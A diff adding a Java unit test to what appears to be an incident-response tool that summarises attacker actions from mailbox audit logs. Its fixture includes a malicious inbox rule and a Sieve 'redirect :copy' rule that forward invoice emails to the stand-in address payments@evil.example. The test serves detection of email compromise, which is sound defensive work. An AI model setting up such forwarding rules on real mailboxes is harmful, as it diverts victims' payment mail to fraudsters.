@@ -318,6 +318,40 @@ class ScopeAnalysisTest {
     }
 
     @Test
+    void aRuleMadeOverManageSieveReadsAsExchangesWithoutItsSieveText() {
+        List<AuditRecord> records = List.of(
+                cmdlet(
+                        "09:00:00",
+                        "New-InboxRule",
+                        ALICE,
+                        ATTACKER_IP,
+                        "Mailbox",
+                        ALICE,
+                        "Name",
+                        "Payments",
+                        "SubjectContainsWords",
+                        "invoice",
+                        "ForwardTo",
+                        "payments@evil.example",
+                        "ExternalRecipients",
+                        "payments@evil.example",
+                        "SieveRule",
+                        "if header :contains \"subject\" \"invoice\" { redirect :copy \"payments@evil.example\"; }",
+                        "SieveScript",
+                        "roundcube"),
+                cmdlet("09:10:00", "Remove-InboxRule", ALICE, ATTACKER_IP, "Mailbox", ALICE, "Identity", "Old"));
+
+        Scope scope = scope(records, BY_IP);
+
+        assertThat(scope.actions(AttackerAction.Kind.INBOX_RULE))
+                .extracting(AttackerAction::summary)
+                .containsExactly(
+                        "New-InboxRule \"Payments\": forwards to payments@evil.example; sends outside the organisation"
+                                + " to payments@evil.example; when SubjectContainsWords \"invoice\"",
+                        "Remove-InboxRule \"Old\": no action recorded");
+    }
+
+    @Test
     void sendsDeletesMovesAndPermissionsAreTheAttackersOtherActions() {
         List<AuditRecord> records = List.of(
                 send("09:00:00", "s-evil", ATTACKER_IP, "Updated bank details", "<f@x>"),
